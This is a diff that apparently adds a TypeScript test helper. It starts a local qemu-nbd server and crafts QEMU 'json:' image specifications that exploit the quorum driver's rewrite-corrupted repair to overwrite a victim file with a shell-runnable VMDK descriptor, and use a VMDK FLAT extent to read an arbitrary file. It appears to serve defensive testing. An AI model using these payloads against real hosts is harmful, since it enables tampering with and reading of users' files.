@@ -1,0 +1,81 @@
+import { type ChildProcess, spawn } from "node:child_process";
+import { once } from "node:events";
+import { readFileSync, writeFileSync } from "node:fs";
+import type { AddressInfo } from "node:net";
+import { connect, createServer } from "node:net";
+import { join } from "node:path";
+import { endChild } from "../end-child.ts";
+import { until } from "../until.ts";
+
+/** An attack on a file of the user, for which an image has to name `name` and be opened. */
+export interface ImageAttack {
+  /** What the image names: a whole specification of QEMU's. It holds no double quote. */
+  readonly name: string;
+  close(): Promise<void>;
+}
+
+/** What the attack writes into the victim. */
+export const planted = "echo planted";
+
+const description = `# Disk DescriptorFile
+version=1
+CID=fffffffe
+parentCID=ffffffff
+createType="monolithicFlat"
+`;
+
+/**
+ * Has QEMU write a line of the attacker's into a file: two servers of the attacker's and the file are
+ * a quorum, which QEMU "repairs" where one differs. What it writes is a description of a VMDK, whose
+ * first line is a comment to a shell. The victim has 512 bytes at least.
+ */
+export async function startRepairAttack(folder: string, victim: string): Promise<ImageAttack> {
+  const { server, close } = await serve(folder, `${description}${planted}\n#`);
+  const own = `{'driver':'raw','size':512,'read-only':false,'file':{'driver':'file','filename':'${victim}','read-only':false}}`;
+  const quorum = `{'driver':'quorum','vote-threshold':2,'rewrite-corrupted':true,'read-only':false,'children':[${server},${server},${own}]}`;
+  return { name: `json:{'driver':'vmdk','read-only':false,'file':${quorum}}`, close };
+}
+
+/** Has QEMU read a file as if it were the image's own data, by a description on the attacker's server. */
+export async function startReadAttack(folder: string, victim: string): Promise<ImageAttack> {
+  const { server, close } = await serve(folder, `${description}RW 1 FLAT "${victim}" 0\n`);
+  return { name: `json:{'driver':'vmdk','file':${server}}`, close };
+}
+
+/** Whether a file, packed by nothing, holds a text. */
+export function holds(path: string, text: string): boolean {
+  return readFileSync(path).includes(text);
+}
+
+/** A server of network block devices with one text, filled up with blank lines to a sector. */
+async function serve(folder: string, text: string) {
+  const file = join(folder, "served.raw");
+  writeFileSync(file, text.padEnd(512, "\n"), { mode: 0o600 });
+  const port = await freePort();
+  // Kept when its clients go; its clients are many.
+  const words = ["-t", "-e", "9", "-f", "raw", "-b", "127.0.0.1", "-p", String(port), file];
+  const child: ChildProcess = spawn("qemu-nbd", words, { stdio: "ignore" });
+  await until("the attacker's server", () => answers(port));
+  const place = `{'type':'inet','host':'127.0.0.1','port':'${port}'}`;
+  return { server: `{'driver':'nbd','server':${place}}`, close: () => endChild(child) };
+}
+
+async function freePort(): Promise<number> {
+  const probe = createServer().listen(0, "127.0.0.1");
+  await once(probe, "listening");
+  const { port } = probe.address() as AddressInfo;
+  probe.close();
+  await once(probe, "close");
+  return port;
+}
+
+function answers(port: number): Promise<boolean> {
+  return new Promise((resolve) => {
+    const socket = connect(port, "127.0.0.1");
+    socket.on("connect", () => {
+      socket.destroy();
+      resolve(true);
+    });
+    socket.on("error", () => resolve(false));
+  });
+}
